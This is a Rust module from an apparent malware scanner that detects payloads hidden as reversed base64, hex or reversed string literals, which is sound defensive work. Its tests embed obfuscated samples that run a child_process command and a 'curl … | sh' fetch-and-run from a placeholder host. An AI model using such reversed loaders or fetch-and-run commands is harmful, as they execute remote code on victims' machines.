//! Payloads stored backwards: a base64 or hex literal that reads only once reversed
//! (`Buffer.from(p.split('').reverse().join(''), 'base64')`, `b64decode(s[::-1])`), and a literal
//! reversed in place (`'hs | …'.split('').reverse().join('')`, `'…'[::-1]`).

use super::codec::readable;
use super::literals::{string_literals, Literal};
use super::Payload;

/// Reversed payloads of `body`, when it reverses strings at all.
pub(super) fn find(body: &str, base: usize, found: &mut Vec<Payload>) {
    let reverses =
        body.contains(".reverse()") && body.contains(".join(") || body.contains("[::-1]");
    if reverses {
        find_assumed(body, base, found);
    }
}

/// Reversed payloads of `body`, which reverses its literals without saying so: an inner layer of a
/// loader whose reversing decoder was defined once, outside (`exec((_)(b'…'))` inside what
/// `_ = lambda __: …(__[::-1])` decoded).
pub(super) fn find_assumed(body: &str, base: usize, found: &mut Vec<Payload>) {
    for literal in string_literals(body)
        .iter()
        .filter(|l| l.source.len() >= 24)
    {
        let backwards: String = literal.source.chars().rev().collect();
        let flipped = Literal {
            source: backwards.clone(),
            raw: backwards.clone().into_bytes(),
            ..literal.clone()
        };
        let decoded = flipped
            .hex()
            .or_else(|| flipped.base64())
            .and_then(|bytes| readable(&bytes))
            .map(|(text, _)| ("reversed base64", text))
            .or_else(|| {
                reversed_in_place(&body[literal.end..])
                    .then(|| readable(backwards.as_bytes()))
                    .flatten()
                    .map(|(text, _)| ("reversed string", text))
            });
        if let Some((encoding, decoded)) = decoded {
            found.push(Payload {
                start: base + literal.start,
                end: base + literal.end,
                encoding,
                decoded,
            });
        }
    }
}

/// The literal is reversed right where it is written.
fn reversed_in_place(after: &str) -> bool {
    let after: String = after
        .chars()
        .take(48)
        .filter(|c| !c.is_whitespace())
        .collect();
    after.starts_with("[::-1]")
        || after.starts_with(".split('').reverse().join('')")
        || after.starts_with(".split(\"\").reverse().join(\"\")")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn reversed(body: &str) -> Vec<(&'static str, String)> {
        let mut found = Vec::new();
        find(body, 0, &mut found);
        found.into_iter().map(|p| (p.encoding, p.decoded)).collect()
    }

    #[test]
    fn reversed_base64_and_reversed_strings_are_read_forwards() {
        // base64 of "require('child_process').exec('id; uname -a')", reversed.
        let forward = "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkOyB1bmFtZSAtYScp";
        let backward: String = forward.chars().rev().collect();
        let body = format!(
            "const p = '{backward}';\nnew Function(Buffer.from(p.split('').reverse().join(''), 'base64').toString())();\n"
        );
        assert_eq!(
            reversed(&body),
            [(
                "reversed base64",
                "require('child_process').exec('id; uname -a')".to_string()
            )]
        );
        let body = "os.system('hs | a/dilavni.elpmaxe.x//:sptth s- lruc'[::-1])\n";
        assert_eq!(
            reversed(body),
            [(
                "reversed string",
                "curl -s https://x.example.invalid/a | sh".to_string()
            )]
        );
    }

    #[test]
    fn ordinary_strings_in_a_file_that_reverses_a_list_are_left_alone() {
        let body = "const items = list.slice().reverse();\nconst title = 'A long title for the page header';\nconst s = names.join(', ');\n";
        assert!(reversed(body).is_empty(), "{:?}", reversed(body));
    }
}
